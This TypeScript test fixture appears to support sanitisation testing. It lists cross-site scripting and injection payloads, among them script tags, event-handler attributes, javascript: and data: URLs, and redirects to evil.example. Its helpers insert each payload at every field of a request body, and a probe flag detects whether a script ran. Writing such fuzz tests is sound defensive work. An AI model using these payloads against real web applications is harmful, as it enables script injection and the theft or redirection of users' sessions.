/** What someone who means harm would put into a field; `probe` is where a script that runs would leave its trace. */
const SCRIPT = 'window.probe=1;fetch(`https://evil.example/`)';

export const HOSTILE: readonly unknown[] = [
	`<script>${SCRIPT}</script>`,
	`"><img src=x onerror="${SCRIPT}">`,
	`' onmouseover='${SCRIPT}' x='`,
	`https://a.example/"onerror="${SCRIPT}"><script>${SCRIPT}</script>`,
	`https://a.example/' onload='${SCRIPT}`,
	`javascript:${SCRIPT}`,
	`java\nscript:${SCRIPT}`,
	`data:text/html,<script>${SCRIPT}</script>`,
	`</style><script>${SCRIPT}</script>`,
	`</title><svg onload="${SCRIPT}">`,
	`--><!--<script>${SCRIPT}</script>`,
	`*<b onclick=x>* _<i>_ ~<s>~ \`</code>\` \`\`\`</pre><script>${SCRIPT}</script>\`\`\``,
	`- <li>\n1. <ol>\n> </blockquote><iframe srcdoc="<script>${SCRIPT}</script>">`,
	'<meta http-equiv="refresh" content="0;url=https://evil.example/">',
	'<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">',
	'&lt;script&gt;&#60;script&#62;',
	'{{constructor.constructor("x")()}}',
	'\u202e\u2066\u200f evil \u0000\u0007\ud800',
	'x'.repeat(60_000),
	null,
	undefined,
	NaN,
	-0,
	true,
	[],
	{},
	[[['<b>']]],
	{ toString: '<b>', constructor: null },
];

type Path = ReadonlyArray<string | number>;

/** Every place of a body, the leaves as well as what holds them. */
export function places(value: unknown, path: Path = []): Path[] {
	const below =
		typeof value === 'object' && value !== null
			? Object.entries(value).flatMap(([key, entry]) =>
					places(entry, [...path, Array.isArray(value) ? Number(key) : key]),
				)
			: [];
	return path.length === 0 ? below : [path, ...below];
}

/** A copy of `body` with `value` at `path`. */
export function replaced(body: unknown, [key, ...rest]: Path, value: unknown): unknown {
	if (key === undefined) return value;
	if (Array.isArray(body))
		return body.map((entry: unknown, index) => (index === key ? replaced(entry, rest, value) : entry));
	const holder = body as Record<string | number, unknown>;
	return { ...holder, [key]: replaced(holder[key], rest, value) };
}
